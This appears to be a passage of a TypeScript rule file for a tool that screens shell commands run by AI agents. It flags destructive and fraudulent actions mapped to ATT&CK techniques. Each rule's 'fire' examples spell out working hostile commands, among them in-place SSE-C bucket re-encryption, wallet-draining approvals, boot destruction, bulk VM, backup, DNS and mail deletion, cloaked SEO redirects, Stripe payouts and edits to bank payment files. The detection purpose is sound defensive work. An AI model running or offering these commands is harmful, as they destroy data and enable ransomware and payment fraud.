    test: (c) => (c.argv[1] === 'match' && c.argv[2] === 'nuke' ? c.argv.join(' ') : undefined),
    askable: {
      asks: ['nuke', 'revoke', 'regenerate', 'reset the certificates', 'reset the certs'],
      // the kind the user named: "nuke the distribution certs"
      objects: (i) => (i.view?.commands ?? []).filter((c) => c.name === 'fastlane' && c.argv[2] === 'nuke').map((c) => c.argv[3] ?? 'nuke'),
      examples: {
        asked: [['Our Apple Distribution cert expired. Nuke the distribution certs via match and regenerate for appstore.', 'bundle exec fastlane match nuke distribution --skip_confirmation']],
        unasked: [['fix the failing UI test', 'bundle exec fastlane match nuke distribution --skip_confirmation'], ['nuke the development certs', 'bundle exec fastlane match nuke distribution']],
      },
    },
    examples: {
      fire: ['bundle exec fastlane match nuke distribution --skip_confirmation true', 'fastlane match nuke development'],
      quiet: ['bundle exec fastlane match development --readonly', 'fastlane match appstore', 'fastlane beta'],
    },
  },
  {
    id: 'PX-IMPACT-032', name: 'reencrypts-bucket-with-own-key', score: 85, tactic: 'impact', technique: 'T1486',
    message: "Copies a bucket's objects onto themselves encrypted with a customer-provided key (SSE-C)",
    why: 'S3 keeps no copy of a customer-provided key: objects rewritten in place under one only the caller holds are unreadable to their owner, which is ransomware that needs no file on any disk.',
    alternative: 'Use the bucket default encryption (SSE-S3 or SSE-KMS) the account controls.',
    commands: ['aws'],
    test: (c) => {
      const customerKey = hasArg(c, '--sse-c', '--sse-customer-key', '--sse-c-key') || c.argv.some((w) => /^--sse-c(?:-key)?=|^--sse-customer-key=/.test(w));
      if (!customerKey) return undefined;
      // `aws s3 cp|mv|sync s3://b/p s3://b/p`, or `aws s3api copy-object --copy-source b/k --bucket b`
      const buckets = hasArg(c, 's3api') ? [(optionValue(c.argv, ['--copy-source']) ?? '').split('/')[0], optionValue(c.argv, ['--bucket'])] : operands(c).filter((o) => o.startsWith('s3://')).map((o) => o.slice(5).split('/')[0]);
      return buckets.length === 2 && buckets[0] && buckets[0] === buckets[1] ? c.argv.join(' ') : undefined;
    },
    examples: {
      fire: ['aws s3 cp s3://acme-data/ s3://acme-data/ --recursive --sse-c AES256 --sse-c-key fileb:///dev/shm/.k --metadata-directive REPLACE', 'aws s3api copy-object --copy-source acme-data/invoices/2024.csv --bucket acme-data --key invoices/2024.csv --sse-customer-algorithm AES256 --sse-customer-key $K'],
      quiet: ['aws s3 cp report.pdf s3://acme-data/reports/ --sse-c AES256 --sse-c-key fileb://key.bin', 'aws s3 cp s3://acme-data/ s3://acme-archive/ --recursive --sse aws:kms', 'aws s3 cp s3://acme-data/a.csv s3://acme-data/b.csv'],
    },
  },
  {
    id: 'PX-IMPACT-035', name: 'gives-wallet-funds-away', score: 70, tactic: 'impact', technique: 'T1657',
    message: "Approves a spender for every token, an operator for a whole collection, or sends a wallet's whole balance, on a live network",
    why: 'An unlimited allowance or an approval for all lets that address take everything now and later, and a transfer of the whole balance empties the wallet; drainers ask for exactly these.',
    alternative: 'Approve the exact amount a transaction needs, to the contract the protocol documents, and send amounts, not ALL.',
    test: fundsGivenAway,
    examples: {
      fire: ['gaiad tx authz grant cosmos1x4zq3ylh8d0p5w2kz7n6a9v3cf5tt0m8r2j6gq generic --msg-type /cosmos.bank.v1beta1.MsgSend --from validator --chain-id cosmoshub-4 -y', `geth attach --exec 'eth.sendTransaction({from: eth.accounts[0], to: "0x5eA9d1C07b3F2e84aD6c1B9f0E7d3a52C8b4F1e6", value: eth.getBalance(eth.accounts[0]) - 1e16})' ~/.ethereum/geth.ipc`, 'cast send 0x5eA9d1C07b3F2e84aD6c1B9f0E7d3a52C8b4F1e6 --value $(cast balance $DEPLOYER_ADDRESS --rpc-url $RPC_URL) --private-key $PRIVATE_KEY --rpc-url $RPC_URL', 'cast send 0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48 "approve(address,uint256)" 0x55eb450370a0b5c3571c36b1956cb04f5993c5cd $(cast max-uint) --account main --rpc-url mainnet', 'cast send 0x0edfd06a27cfeafc8737bc616fb4ad8537ba0609 "setApprovalForAll(address,bool)" 0xe11299cb1dd50f552ce6078925df873046cf353e true --account vault --rpc-url mainnet', 'solana transfer LJ8rP9CTvYA1aVVfi11izEtctc3u4MEwuPJ5iMnPpmQw ALL --allow-unfunded-recipient --url mainnet-beta'],
      quiet: ['cast send 0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48 "approve(address,uint256)" 0x000000000022D473030F116dDEE9F6B43aC78BA3 1500000000 --account dana-main --rpc-url mainnet', 'cast send 0xA0b8 "approve(address,uint256)" 0x55eb $(cast max-uint) --unlocked --from 0x28C6 --rpc-url http://127.0.0.1:8545', 'solana transfer LJ8rP9CTvYA1aVVfi11izEtctc3u4MEwuPJ5iMnPpmQw ALL --url devnet'],
    },
  },
  {
    id: 'PX-IMPACT-036', name: 'breaks-boot', score: 85, tactic: 'impact', technique: 'T1561.002',
    message: 'Makes the machine unable to boot (its kernels, bootloader or boot entries removed, the root filesystem taken out of fstab) or boots it into a root shell with no login',
    why: 'A remote server that cannot boot is down until someone reaches its console, and its data with it; `init=/bin/bash` gives whoever reaches the console root without a password.',
    alternative: 'Change boot settings with the distribution\'s tools (update-grub, kernel-install, bootctl), keeping the current kernel and entry until the new one has booted.',
    check: (i) => {
      const out: string[] = [];
      for (const c of i.view?.commands ?? []) {
        if (c.name === 'rm' && operands(c).some((p) => BOOT_FILES.test(canonicalPath(p)))) out.push(c.argv.join(' '));
        if (c.name === 'efibootmgr' && hasArg(c, '-B', '--delete-bootnum')) out.push(c.argv.join(' '));
      }
      for (const w of writes(i)) {
        const text = putIn(w).slice(0, 8192);
        if (/^\/boot\/(?:grub2?\/grub\.cfg|loader\/)/.test(w.canonical) && !w.append && w.text.trim() === '') out.push(`${w.cmd?.name ?? 'write'} ${w.path} (emptied)`);
        else if (w.canonical === '/etc/fstab' && /UUID=0{8}-0{4}-0{4}-0{4}-0{12}/.test(text)) out.push(`${w.path}: root filesystem's UUID zeroed`);
        else if (/^\/etc\/default\/grub(?:\.d\/[^/]+)?$/.test(w.canonical) && /(?:^|[\s"'])(?:init=\/(?:usr\/)?bin\/(?:ba|da|z)?sh|rd\.break)(?=$|[\s"'])/.test(text)) out.push(`${w.path}: boots into a root shell`);
      }
      return out;
    },
    examples: {
      fire: ['sudo rm -f /boot/vmlinuz-* /boot/initrd.img-* && sudo update-grub', "sudo sh -c ': > /boot/grub/grub.cfg'", 'sudo efibootmgr -B -b 0000', "sudo sed -i 's|^UUID=\\(.*\\) / |UUID=00000000-0000-0000-0000-000000000000 / |' /etc/fstab", "sudo sed -i 's/^GRUB_CMDLINE_LINUX_DEFAULT=\"/GRUB_CMDLINE_LINUX_DEFAULT=\"init=\\/bin\\/bash /' /etc/default/grub", 'sudo rm -rf /boot/efi/EFI/ubuntu'],
      quiet: ['sudo apt autoremove --purge', 'ls /boot', 'sudo efibootmgr -v', 'sudo efibootmgr -o 0001,0000', "sudo sed -i 's/^GRUB_TIMEOUT=.*/GRUB_TIMEOUT=2/' /etc/default/grub", 'sudo rm /boot/grub/grub.cfg.bak', "echo 'UUID=3f1c2b9e-7a4d-4e2b-9c1f-0a8d5e6b7c21 /data ext4 defaults,nofail 0 2' | sudo tee -a /etc/fstab"],
    },
  },
  {
    id: 'PX-IMPACT-037', name: 'burns-chip-fuses', score: 75, tactic: 'impact', technique: 'T1495',
    message: "Burns a chip's eFuses or sets its permanent read-out protection, without the confirmation the tool asks for",
    why: 'Burnt fuses and RDP level 2 cannot be undone: a wrong key or flag bricks the board, or locks it to a key someone else holds; espefuse asks a person to type BURN for that reason.',
    alternative: 'Run espefuse without --do-not-confirm, on a board set aside for it, after a summary of what will be burnt.',
    commands: ['espefuse', 'espefuse.py', 'stm32_programmer_cli'],
    test: (c) => {
      if (c.name.startsWith('espefuse')) return c.argv.includes('--do-not-confirm') && c.argv.some((w) => /^(?:burn_\w+|write_protect_efuse|read_protect_efuse|set_flash_voltage)$/.test(w)) ? c.argv.join(' ') : undefined;
      return c.argv.some((w) => /^RDP=0xCC$/i.test(w)) ? c.argv.join(' ') : undefined;
    },
    examples: {
      fire: ['espefuse.py --port /dev/ttyUSB0 --do-not-confirm burn_key BLOCK_KEY0 /tmp/fe_key.bin XTS_AES_128_KEY', 'espefuse.py -p /dev/ttyUSB0 --do-not-confirm burn_efuse SPI_BOOT_CRYPT_CNT 7', 'STM32_Programmer_CLI -c port=SWD -ob RDP=0xCC'],
      quiet: ['espefuse.py --port /dev/ttyUSB0 summary', 'espefuse.py --port /dev/ttyUSB0 burn_key BLOCK_KEY0 key.bin XTS_AES_128_KEY', 'STM32_Programmer_CLI -c port=SWD -ob RDP=0xAA', 'espefuse.py -p /dev/ttyUSB0 --do-not-confirm summary'],
    },
  },
  {
    id: 'PX-IMPACT-038', name: 'stops-other-users-work', score: 70, tactic: 'impact', technique: 'T1489',
    message: "Cancels or holds another account's jobs on a shared cluster, or kills every process on its GPUs",
    why: "On a cluster or shared server other people's jobs and processes are their work in progress, days of it; cancelling them frees nodes for someone else's and is what a user is never allowed to do to another.",
    alternative: "Ask the cluster's administrators, who hold and cancel jobs through the ticket that asked for it.",
    // (an administrator's `sudo pkill -u deploy …` stops a service account's worker or an offboarded account's shells: admin work)
    commands: ['scancel', 'qdel', 'kill', 'scontrol', 'bkill'],
    test: (c, i) => {
      const a = c.argv;
      const user = optionValue(a, ['-u', '--user']) ?? a.find((w) => w.startsWith('--user='))?.slice(7);
      const another = user !== undefined && !SELF.test(user) && user !== 'root';
      if ((c.name === 'scancel' || c.name === 'bkill') && another) return a.join(' ');
      // jobs picked from another user's queue: `qselect -u mliu | xargs qdel`, `squeue … '$2!=me' | xargs sudo scancel`
      const feeders = c.wrappers.includes('xargs') ? upstream(c, i) : [];
      const picked = feeders.find((u) => u.name === 'qselect' || u.name === 'squeue');
      if ((c.name === 'qdel' || c.name === 'scancel') && picked && ((optionValue(picked.argv, ['-u']) ?? '$USER') !== '$USER' || c.wrappers.includes('sudo'))) return a.join(' ');
      // every process on the GPUs, whoever's: `nvidia-smi --query-compute-apps=pid … | xargs sudo kill -9`
      if (c.name === 'kill' && feeders.some((u) => u.name === 'nvidia-smi') && c.wrappers.includes('sudo')) return a.join(' ');
      if (c.name === 'scontrol' && c.wrappers.includes('sudo') && ['hold', 'requeue', 'suspend'].includes(a[1] ?? '')) return a.join(' ');
      return undefined;
    },
    examples: {
      fire: ['scancel -u mliu', 'qselect -u mliu -s Q | xargs -r qdel', "squeue -h -p gpu -t PD -o '%i %u' | awk -v me=$USER '$2!=me{print $1}' | xargs -r sudo scancel", 'nvidia-smi --query-compute-apps=pid --format=csv,noheader | xargs -r sudo kill -9', 'for j in $(squeue -h -A lee-lab -t PD -o %i); do sudo scontrol hold $j; done'],
      quiet: ['scancel 4418270', "sudo pkill -u deploy -f 'celery.*worker.*-Q reports'", 'scancel -u $USER', 'scancel --user=$(whoami) --state=PENDING', 'pkill -u $USER -f jupyter', 'qselect -u $USER -s Q | xargs -r qdel', 'kill 48213', 'squeue -u $USER', 'sudo systemctl restart slurmd'],
    },
  },
  {
    id: 'PX-IMPACT-039', name: 'destroys-directory', score: 90, tactic: 'impact', technique: 'T1485',
    message: "Destroys a directory, a Kerberos realm or a single sign-on realm: its tree, its KDC database, its server",
    why: 'Every login, group and service key of the organization lives there; without a restore nobody signs in anywhere.',
    alternative: 'Delete single entries by name, and decommission servers through a reviewed plan with a tested backup.',
    test: (c) => (directoryDestroyed(c) ? c.argv.join(' ') : undefined),
    examples: {
      fire: ['ldapdelete -r -x -D cn=admin,dc=example,dc=com -y /root/.ldappw "ou=People,dc=example,dc=com"', 'kdb5_util destroy -f', 'ipa-server-install --uninstall -U --ignore-topology-disconnect --ignore-last-of-role', 'kcadm.sh delete realms/prod'],
      quiet: ['ldapdelete -x -D cn=admin,dc=example,dc=com -W "uid=jdoe,ou=People,dc=example,dc=com"', 'ldapdelete -r -x -W "uid=old.user,ou=People,dc=example,dc=com"', 'ipa-server-install --uninstall -U', 'kcadm.sh delete users/8f1c -r prod', 'kdb5_util dump /var/lib/krb5kdc/backup/kdc.dump'],
    },
  },
  {
    id: 'PX-IMPACT-040', name: 'destroys-virtual-machines', score: 90, tactic: 'impact', technique: 'T1485',
    message: 'Destroys virtual machines, snapshots or backups in bulk: every machine a listing names, a storage pool or backup datastore, every snapshot of a VM',
    why: 'Killing every VM, removing their snapshots and deleting the backup store is how hypervisor ransomware makes sure nothing can be restored.',
    alternative: 'Remove machines, snapshots and disks one by one by name, after their owners confirm.',
    check: (i) => machinesDestroyed(i.view?.commands ?? []),
    examples: {
      fire: ["esxcli vm process list | awk '/World ID/ {print $3}' | xargs -I{} esxcli vm process kill --type=force --world-id={}", "for id in $(vim-cmd vmsvc/getallvms | awk 'NR>1{print $1}'); do vim-cmd vmsvc/snapshot.removeall $id; done", "for d in $(xl list | awk 'NR>2{print $1}'); do xl destroy $d; done", 'govc find /DC1/vm/Production -type m | xargs -I{} govc vm.destroy {}', "pvesm list pbs-main --content backup | awk 'NR>1{print $1}' | xargs -n1 pvesm free", 'ceph osd pool delete vm-pool vm-pool --yes-i-really-really-mean-it', 'proxmox-backup-manager datastore remove store1 --destroy-data', "govc snapshot.remove -vm sql-prod01 '*'", 'vmkfstools -U /vmfs/volumes/ds01/SQL01/SQL01.vmdk', 'qm set 101 --protection 0 && qm destroy 101 --purge 1 --skiplock 1'],
      quiet: ['qm destroy 130 --purge', 'pct stop 215 && pct destroy 215 --purge', 'pvesm free local-lvm:vm-130-disk-3', 'virsh undefine scratch-fedora41 --remove-all-storage', 'vim-cmd vmsvc/snapshot.removeall 27', 'govc snapshot.remove -vm sql-prod01 pre-cu16', 'govc vm.destroy stg-temp-17', 'VBoxManage unregistervm "old-centos7" --delete', 'xl destroy test-domu-3', 'qm list', 'vmkfstools -X 80G /vmfs/volumes/datastore1/web03/web03.vmdk'],
    },
  },
  {
    id: 'PX-IMPACT-041', name: 'discards-mail', score: 85, tactic: 'impact', technique: 'T1485',
    message: "Throws a mail server's mail away wholesale: every queued message, every user's mailboxes",
    why: "Mail deleted from the queue is never delivered and nobody is told; expunged from every mailbox it is gone for every user, and the evidence in it with it.",
    alternative: 'Delete the stuck or spam messages by ID or by sender, and expunge by a retention query (`savedbefore 30d`) in named folders.',
    test: (c) => (mailDestroyed(c) ? c.argv.join(' ') : undefined),
    examples: {
      fire: ['postsuper -d ALL && postsuper -d ALL deferred', "doveadm expunge -A mailbox '*' all && doveadm purge -A"],
      quiet: ['postsuper -d 4Xk2LJ0qZbz9vWc', 'postsuper -d ALL hold', 'postsuper -r ALL', "mailq | awk '/MAILER-DAEMON/ {print $1}' | tr -d '*!' | postsuper -d -", 'doveadm expunge -A mailbox Junk savedbefore 14d', 'doveadm expunge -u j.reed@kestrel-finance.co.uk mailbox Trash savedbefore 30d'],
    },
  },
  {
    id: 'PX-IMPACT-042', name: 'deletes-dns-zones', score: 85, tactic: 'impact', technique: 'T1485',
    message: 'Deletes DNS zones: a hosted zone at its provider, a zone on a name server, or the name server\'s zone files by a pattern',
    why: 'Every name in a deleted zone stops resolving at once: the sites, the APIs, the mail. A zone rebuilt from nothing loses its records, and its DNSSEC chain needs the registrar to repair.',
    alternative: 'Delete single records by name after exporting the zone; leave whole zones to their owners.',
    test: zonesDeleted,
    examples: {
      fire: ['az network dns zone delete -g rg-dns-prod -n example.com --yes', 'gcloud dns managed-zones delete example-prod --quiet', 'aws route53 delete-hosted-zone --id Z0834712QWERTYUIOP', 'rndc delzone -clean example.com', 'pdnsutil delete-zone example.com', 'rm -rf /var/lib/bind/db.* /var/lib/bind/*.jnl'],
      quiet: ['rm -f /var/lib/bind/keys/Kexample.com.+013+24811.*', 'rm -f /var/lib/bind/db.lab.example.com.jnl && rndc reload lab.example.com', 'gcloud dns managed-zones describe example-prod', 'aws route53 list-hosted-zones', 'rndc reload example.com', 'pdnsutil list-all-zones', 'gcloud dns record-sets delete old.example.com. --type=A --zone=example-prod'],
    },
  },
  {
    id: 'PX-IMPACT-043', name: 'revokes-certificates-or-disables-ca', score: 80, tactic: 'impact', technique: 'T1485',
    message: 'Revokes certificates one after another, or disables or deletes a private certificate authority',
    why: 'Every site, API and client that presents a revoked certificate, or one from a disabled CA, is refused at once; reissuing them all takes as long as the outage lasts.',
    alternative: 'Revoke a compromised certificate by name, after its owner confirms; retire a CA through its planned rotation.',
    test: (c, i) => certificatesTakenAway(c, repeated(c, i)),
    examples: {
      fire: [
        'for d in /etc/letsencrypt/live/*/; do certbot revoke --cert-path "${d}cert.pem" --reason keycompromise --non-interactive; done',
        "vault list -format=json pki_int/certs | jq -r '.[]' | xargs -I{} vault write pki_int/revoke serial_number={}",
        'aws acm-pca update-certificate-authority --certificate-authority-arn arn:aws:acm-pca:us-east-1:1:certificate-authority/0e5d --status DISABLED',
        'aws acm-pca delete-certificate-authority --certificate-authority-arn arn:aws:acm-pca:us-east-1:1:certificate-authority/0e5d --permanent-deletion-time-in-days 7',
      ],
      quiet: ['certbot revoke --cert-name api.example.com --reason keycompromise', 'vault write pki_int/revoke serial_number=39:dd:2e', 'aws acm-pca describe-certificate-authority --certificate-authority-arn arn:aws:acm-pca:us-east-1:1:certificate-authority/0e5d', 'for d in /etc/letsencrypt/live/*/; do openssl x509 -in "${d}cert.pem" -noout -enddate; done'],
    },
  },
  {
    id: 'PX-IMPACT-044', name: 'destroys-data-platform-storage', score: 85, tactic: 'impact', technique: 'T1485',
    message: "Destroys a data platform's storage: a warehouse's or a lake's folders on HDFS or DBFS removed whole, a workspace's top folder deleted, Kafka topics deleted by a pattern or on production, a topic's data purged by a retention of minutes, an InfluxDB historian's bucket deleted, emptied since the epoch or cut to an hour's retention",
    why: "A warehouse's databases, a lake's mounts and a cluster's topics are what every report, model and downstream job reads; removed whole (and past the trash with -skipTrash) they come back only from backups, if there are any.",
    alternative: "Remove one table's or one run's folder by name, after checking what reads it; leave a production cluster's topics and retention to their owners.",
    commands: ['hdfs', 'hadoop', 'databricks', 'kafka-topics', 'kafka-topics.sh', 'kafka-configs', 'kafka-configs.sh', 'influx'],
    test: dataPlatformDestroyed,
    examples: {
      fire: ['influx bucket delete --name plant_hist --org riverbend --host http://historian.ot.riverbend.local:8086', 'influx delete --bucket plant_hist --org riverbend --start 1970-01-01T00:00:00Z --stop 2030-01-01T00:00:00Z', 'influx bucket update --id 0a1b2c3d4e5f6789 --retention 1m', 'influx -host historian-v1 -execute "ALTER RETENTION POLICY autogen ON scada DURATION 1h SHARD DURATION 1h DEFAULT"', 
        "hdfs dfs -rm -r -f -skipTrash '/warehouse/tablespace/managed/hive/*.db'",
        'hadoop fs -rm -r -skipTrash /user/hive/warehouse',
        'hdfs dfs -rm -r -skipTrash /data/raw',
        'databricks fs rm -r dbfs:/mnt/delta/',
        'databricks workspace delete /Shared --recursive',
        "kafka-topics.sh --bootstrap-server kafka-1.prod:9092 --delete --topic 'dbserver1\\..*'",
        'kafka-configs.sh --bootstrap-server kafka-1:9092 --alter --entity-type topics --entity-name security.audit.events --add-config retention.ms=1000',
        'kafka-configs --bootstrap-server b1.kafka.prod.corvid.internal:9093 --alter --entity-type topics --entity-name customer.events.v1 --add-config retention.ms=60000',
      ],
      quiet: ['influx bucket delete --name sandbox_test --org riverbend', "influx delete --bucket plant_hist --start 2024-06-11T08:00:00Z --stop 2024-06-11T09:00:00Z --predicate '_measurement=\"calib_run\"'", 'influx bucket update --id 0a1b2c3d4e5f6789 --retention 90d', 
        'hdfs dfs -rm -r /tmp/hive/jsmith/_tez_session_dir',
        'hdfs dfs -rm -r -skipTrash /data/staging/orders_backfill_20240601',
        'hdfs dfs -rm /data/raw/events/2024-06-01/part-00000.parquet',
        'hdfs dfs -rm -r /warehouse/tablespace/managed/hive/sales.db/orders_bak_2023',
        'databricks fs rm -r dbfs:/tmp/jsmith/scratch/',
        'databricks workspace delete /Users/jsmith@acme.com/old-notebook',
        'kafka-topics.sh --bootstrap-server kafka-1.dev:9092 --delete --topic jsmith.test.events',
        'kafka-topics.sh --bootstrap-server localhost:9092 --delete --topic it-orders-$CI_JOB_ID',
        'kafka-configs.sh --bootstrap-server kafka-1.prod:9092 --alter --entity-type topics --entity-name clickstream --add-config retention.ms=604800000',
        'kafka-configs --bootstrap-server kafka-1.tsf.lan:9093 --alter --entity-type topics --entity-name debug.gps.sampled --add-config retention.ms=3600000',
      ],
    },
  },
  {
    id: 'PX-IMPACT-045', name: 'destroys-website', score: 85, tactic: 'impact', technique: 'T1485',
    message: "Destroys a website through its platform's tools: its content or database wiped, its plugins and themes deleted, every user or page deleted, the application uninstalled, the hosting account or its database removed",
    why: 'wp site empty, wp db reset, drush sql:drop, migrate:fresh --force and removeacct take the site, its orders and its accounts with them in one command; a local or staging copy is there to be reset, production is not.',
    alternative: 'Reset local or staging copies by their path; take a backup and a person\'s confirmation before touching production.',
    commands: ['wp', 'drush', 'magento', 'whmapi1', 'uapi', 'plesk', 'lftp', ...COLLAB_APP_TOOLS],
    test: (c) => siteDestroyed(c) ?? collabDestroyed(c),
    examples: {
      fire: ['mmctl --local user delete --all --confirm', 'wp site empty --yes --uploads --path=/var/www/html', 'wp db reset --yes --path=/var/www/html', 'drush sql:drop -y', 'bin/magento setup:uninstall -n', 'php artisan migrate:fresh --force --env=production', 'whmapi1 removeacct user=acmecorp keepdns=0', 'uapi --user=acmecorp Mysql delete_database name=acmecorp_shop', `lftp -u deploy,'Dpl0y#2024' sftp://files.acmehost.net -e "rm -r -f public_html; bye"`],
      quiet: ['sudo -u www-data php /var/www/nextcloud/occ user:delete former.intern', 'uapi --user=acmecorp Mysql delete_database name=acmecorp_wp_old', 'wp db reset --yes --path=/home/dev/sites/lumen.test', 'php artisan migrate:fresh --seed', 'wp plugin delete hello-dolly', 'drush sql:dump > backup.sql', 'bin/magento setup:upgrade', `lftp -u deploy,x sftp://files.acmehost.net -e "rm -f public_html/old.zip; bye"`],
    },
  },
  {
    id: 'PX-IMPACT-046', name: 'hijacks-site-visitors', score: 75, tactic: 'impact', technique: 'T1491.002',
    message: "Turns a site against its visitors: search-engine traffic redirected to another site by .htaccess (a cloaked SEO redirect), or links hidden in every published post",
    why: 'Visitors from Google land on a pharmacy or casino site while the owner, who types the address, sees nothing wrong; hidden links in every post sell the site\'s ranking. Both get the domain blacklisted by the search engines.',
    alternative: 'Redirect with rules the site owner wrote and reviewed; edit posts through the editor.',
    check: (i) => writtenOrRun(i, cloakedRedirectWritten, hiddenLinksInjectedBy),
    examples: {
      fire: [
        "printf 'RewriteEngine On\\nRewriteCond %%{HTTP_REFERER} google\\\\. [NC]\\nRewriteRule ^ https://pharma-deals.top/ [R=302,L]\\n' >> /var/www/html/.htaccess",
        `wp db query "UPDATE wp_posts SET post_content=CONCAT(post_content,'<div style=\\"display:none\\"><a href=\\"https://best-casino-bonus.win\\">casino</a></div>') WHERE post_status='publish'"`,
      ],
      quiet: [
        "printf 'RewriteEngine On\\nRewriteCond %{HTTPS} off\\nRewriteRule ^ https://%{HTTP_HOST}%{REQUEST_URI} [R=301,L]\\n' >> /var/www/html/.htaccess",
        `wp db query "SELECT ID, post_title FROM wp_posts WHERE post_content LIKE '%display:none%'"`,
      ],
    },
  },
  {
    id: 'PX-IMPACT-047', name: 'stops-backups', score: 75, tactic: 'impact', technique: 'T1490',
    message: 'Turns scheduled backups off: a backup timer masked, its crontab lines removed, a backup job or snapshot task deleted, a backup script neutralized',
    why: 'Backups stopped quietly before data is encrypted or destroyed leave nothing recent to restore, and nobody notices until the restore is needed.',
    alternative: 'Pause one backup job with its owner\'s agreement and a date to resume it; change retention in the backup tool, where it is logged.',
    commands: ['systemctl', 'crontab', 'veeamconfig', 'velero', 'bconsole', 'midclt', 'zfs', 'snapper', 'sed', 'mv', 'rm'],
    check: (i) => (i.view?.commands ?? []).flatMap((c) => backupsStopped(c) ?? []),
    examples: {
      fire: ['sudo mv /etc/cron.d/tsm-gpfs-backup /root/tsm-gpfs-backup.disabled', 'crontab -l | grep -v restic | crontab -', 'systemctl mask --now borgmatic.timer sanoid.timer', 'veeamconfig job delete --name "Nightly-Root"', 'velero schedule delete daily-cluster --confirm', "sed -i 's|^BACKUP_DIR=.*|BACKUP_DIR=/dev/null|' /usr/local/bin/pg-backup.sh", "sed -i 's|^\\([^#].*pg_basebackup.*\\)|#\\1|' /etc/cron.d/pg-basebackup", 'midclt call pool.snapshottask.delete 1', 'echo "disable job=NightlyFull-fs01" | bconsole', 'zfs set com.sun:auto-snapshot=false tank'],
      quiet: ['sudo mv /root/tsm-gpfs-backup.disabled /etc/cron.d/tsm-gpfs-backup', 'systemctl list-timers borgmatic.timer restic-backup.timer', 'systemctl enable --now borgmatic.timer', 'echo "enable job=NightlyFull-fs01" | bconsole', 'veeamconfig job start --name "SystemBackup"', 'velero schedule get', 'midclt call pool.snapshottask.run 3', "sed -i 's|^BACKUP_DIR=.*|BACKUP_DIR=/srv/backups/pg|' /usr/local/bin/pg-backup.sh", 'crontab -l | grep -v certbot | crontab -', 'zfs set com.sun:auto-snapshot=false tank/scratch/tmp', 'systemctl disable --now apache2'],
    },
  },
  {
    id: 'PX-IMPACT-048', name: 'sends-money-out', score: 75, tactic: 'impact', technique: 'T1657',
    message: "Sends money out of a payment platform's balance from the shell: a Stripe payout or transfer",
    why: 'A payout or transfer leaves the business for good; made by an agent from a ticket or an e-mail, it is the last step of payment fraud.',
    alternative: 'Create payouts and transfers from the payment dashboard, with a second person approving them.',
    commands: ['stripe', 'curl'],
    test: moneySentByCommand,
    examples: {
      fire: ['stripe payouts create --amount 1840000 --currency usd --method instant --stripe-account acct_1PzQ8vLr2Xk0aB7n', "stripe transfers create --amount 1840000 --currency usd --destination acct_1PzQ8vLr2Xk0aB7n", 'curl -s https://api.stripe.com/v1/payouts -u "$STRIPE_SECRET_KEY:" -d amount=640000 -d currency=usd'],
      quiet: ['stripe payouts list --limit 10', 'stripe transfers list --destination acct_1PzQ8vLr2Xk0aB7n --limit 5', 'stripe payouts create --amount 500 --currency usd --api-key sk_test_51Nx', 'curl -s "https://api.stripe.com/v1/payouts?limit=10" -u "$STRIPE_SECRET_KEY:"'],
    },
  },
  {
    id: 'PX-IMPACT-049', name: 'edits-payment-file', score: 75, tactic: 'impact', technique: 'T1565.001',
    message: 'Edits a bank payment file by hand: a NACHA batch, a pain.001 credit transfer, an ABA file, or a BACS or positive-pay file, or appends to one',
    why: 'The payments system writes these files and a person approves them before they go to the bank; an account number or an entry changed afterwards sends money where nobody approved, and recomputed totals hide it.',
    alternative: 'Fix the payment in the payments system and generate the file again, so it is approved again.',
    check: (i) => [
      ...writes(i).filter((w) => paymentFileEdited(w.canonical, w.cmd, w.append)).map((w) => `${w.cmd?.name ?? 'edit'} ${w.path}`),
      ...(i.view?.commands ?? []).flatMap((c) => paymentXmlEdited(c) ?? []),
    ],
    examples: {
      fire: [`echo '0000123456,004417,06/14/2024,9850.00,I,DANIEL OKAFOR' >> /srv/positivepay/out/KES_ISSUE_20240614.csv`, "sed -i '/BRIGHTLINE LOGISTICS/s/0710009280004418820175   /1220383951937004526      /' /srv/payouts/outbound/2025-03-14/TALLYRAIL_ACH_20250314_01.ach", `xmlstarlet ed -L -N d=urn:iso:std:iso:20022:tech:xsd:pain.001.001.09 -u "//d:CdtrAcct/d:Id/d:IBAN" -v LT603250024189376512 out/sepa/pain001_20250314_EUR.xml`, { Unknown: { tool_name: 'Edit', params: { file_path: '/srv/payouts/outbound/2025-03-14/batch.ach', old_string: '0710009280004418820175', new_string: '1220383951937004526' } } }],
      quiet: [`awk -F, '{s += $4} END {printf "%d cheques, %.2f total\n", NR, s}' /srv/positivepay/out/KES_ISSUE_20240614.csv`, `sha256sum /srv/ach/outbound/KESTREL_PPD_20240614.ach | tee /srv/ach/outbound/KESTREL_PPD_20240614.ach.sha256`, "grep '^799' /srv/payouts/returns/MTB_RETURNS_20250318.ach | cut -c4-6 | sort | uniq -c", "xmlstarlet sel -N d=urn:iso:std:iso:20022:tech:xsd:pain.001.001.09 -t -v '//d:GrpHdr/d:NbOfTxs' out/sepa/pain001_20250318_EUR.xml", 'gpg --batch --yes -r h2h-keys@meridiantrust.com -o /srv/payouts/outbound/batch.ach.pgp -e /srv/payouts/outbound/batch.ach', "sed -i 's/^ACH_DIR=.*/ACH_DIR=\/srv\/payouts\/outbound/' config/payouts.env"],
    },
  },
  {
    id: 'PX-IMPACT-050', name: 'drives-industrial-equipment', score: 75, tactic: 'impact', technique: 'T0855',
    message: "Writes to industrial, vehicle or home equipment: Modbus coils and registers, BACnet properties or OPC UA nodes of a device that is no simulator on this machine, CAN frames that reset, unlock or reprogram a vehicle's controllers or flood its bus, a home's door unlocked, alarm disarmed or garage opened",
    why: 'A write to a PLC, a building controller or a vehicle bus moves something physical (a valve, a conveyor, a setpoint, an engine controller); a wrong value is damage or injury, and an attacker needs only the write.',
    alternative: 'Read registers to check a device; make writes from the plant\'s engineering tools, against a simulator or a `vcan` bus first, under the site\'s change procedure.',
    commands: ['mbpoll', 'modbus', 'bacwp', 'bacrd', 'bacdcc', 'uawrite', 'uacall', 'cansend', 'cangen', 'curl', 'wget', 'http', 'xh'],
    test: (c) => equipmentWritten(c) ?? canInjected(c) ?? homeOpened(c),
    check: (i) => (i.call.kind === 'network' && opensHome(i.call.url) ? `${i.call.method} ${i.call.url.slice(0, 160)}` : (i.view?.scripts ?? []).filter((s) => equipmentScripted(s.code, s.strings)).map((s) => s.code.slice(0, 160))),
    examples: {
